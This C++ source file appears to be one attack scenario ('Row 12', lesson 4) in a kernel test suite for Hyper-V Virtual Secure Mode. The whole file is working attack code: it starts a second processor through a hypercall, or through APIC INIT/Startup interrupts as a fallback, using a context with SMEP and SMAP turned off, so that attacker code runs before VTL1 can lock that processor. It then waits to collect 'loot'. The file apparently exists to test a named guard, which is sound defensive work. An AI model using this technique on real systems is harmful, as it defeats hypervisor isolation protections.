// SPDX-License-Identifier: MIT
// Row 12: VTL0 starts another processor with the attacker's code, before VTL1 is on it.
//
// What VTL1 has locked on the first processor is not locked on a fresh one: its control registers
// are whatever its starter says.  [TLFS vsm, virtual processor startup]  Guard: vtl-startup-deny.
// Lesson: 4.
#include "abi/memory_layout.h"
#include "abi/tlfs/hypercall_inputs.h"
#include "kernel/cpu.h"
#include "kernel/scenes/attacks/attack.h"
#include "kernel/scenes/attacks/hostile_hypercalls.h"
#include "rt/instructions.h"
#include "x86/apic.h"
#include "x86/control_registers.h"
#include "x86/descriptor_tables.h"
#include "x86/msr.h"

extern "C" {
extern const std::uint8_t attackers_processor[]; // attackers_processor.S
extern volatile std::uint64_t* attackers_processor_target;
}

namespace nt::attacks {
namespace {

using abi::tlfs::InitialVpContext;
using abi::tlfs::SegmentRegister;

using x86::InterruptCommand;

constexpr std::uint32_t second_processor = 1; // also its APIC's number
constexpr std::uint8_t real_mode_page = 8;

SegmentRegister flat_segment(x86::Selector selector, x86::SegmentAttributes attributes) {
    return {0, 0xFFFF'FFFF, selector.raw, attributes.raw};
}

void describe_tables(InitialVpContext& context) {
    const x86::DescriptorTableRegister segments = cpu::read_segment_register();
    const x86::DescriptorTableRegister gates = cpu::read_gate_register();
    context.gdtr.base = segments.base;
    context.gdtr.limit = segments.limit;
    context.idtr.base = gates.base;
    context.idtr.limit = gates.limit;
    context.cs = flat_segment(x86::KernelSegments::code, x86::SegmentAttributes::code(0));
    const auto data = flat_segment(x86::KernelSegments::data, x86::SegmentAttributes::data(0));
    context.ds = context.es = context.fs = context.gs = context.ss = data;
    context.tr = {0, sizeof(x86::TaskStateSegment) - 1, x86::KernelSegments::task.raw,
                  x86::SegmentAttributes::system(x86::SystemType::BusyTss).raw};
    context.ldtr.attributes = x86::SegmentAttributes::system(x86::SystemType::Ldt).raw;
}

/// As this processor is, but for what VTL1 would not let it change: SMEP and SMAP off.
InitialVpContext attackers_context(std::uint64_t stack_top) {
    InitialVpContext context;
    describe_tables(context);
    context.rip = reinterpret_cast<std::uint64_t>(attackers_processor);
    context.rsp = stack_top;
    context.rflags = x86::Rflags::at_reset().raw;
    context.cr0 = cpu::read_cr0();
    context.cr3 = cpu::read_cr3();
    context.cr4 = x86::Cr4::from(cpu::read_cr4())
                      .with(x86::Cr4::supervisor_execution_prevention, false)
                      .with(x86::Cr4::supervisor_access_prevention, false)
                      .raw;
    context.efer = rt::rdmsr(static_cast<std::uint32_t>(x86::Msr::ExtendedFeatureEnable));
    context.pat = rt::rdmsr(static_cast<std::uint32_t>(x86::Msr::Pat));
    return context;
}

/// By the local APIC: the low half of the command sends it.  [APM2 16.5]
void command_second_processor(InterruptCommand::Delivery delivery) {
    const auto command = InterruptCommand::to(second_processor, delivery, real_mode_page);
    const auto write = [](x86::ApicRegister name, std::uint64_t value) {
        const std::uint64_t address =
            abi::direct_map_base + x86::apic_default_base + static_cast<std::uint32_t>(name);
        *reinterpret_cast<volatile std::uint32_t*>(address) = static_cast<std::uint32_t>(value);
    };
    write(x86::ApicRegister::InterruptCommandHigh, command.raw >> 32);
    write(x86::ApicRegister::InterruptCommandLow, command.raw);
}

void wait_for_loot() {
    constexpr std::uint64_t patience = 50'000'000;
    for (std::uint64_t turn = 0; turn < patience && loot()[0] == 0; ++turn) {
        rt::pause();
    }
}

} // namespace

void start_processor(Stage& stage) {
    attackers_processor_target = loot();
    const std::uint64_t stack_top = direct_address(own_page(stage)) + x86::page_bytes;
    const InitialVpContext context = attackers_context(stack_top);

    begin(second_processor);
    if (start_virtual_processor(second_processor, context) == HvStatus::Success) {
        wait_for_loot();
        return;
    }
    // Then as before there was a hypervisor: a processor that is told to starts in real mode.
    attempt([] { command_second_processor(InterruptCommand::Delivery::Init); });
    attempt([] { command_second_processor(InterruptCommand::Delivery::Startup); });
}

} // namespace nt::attacks
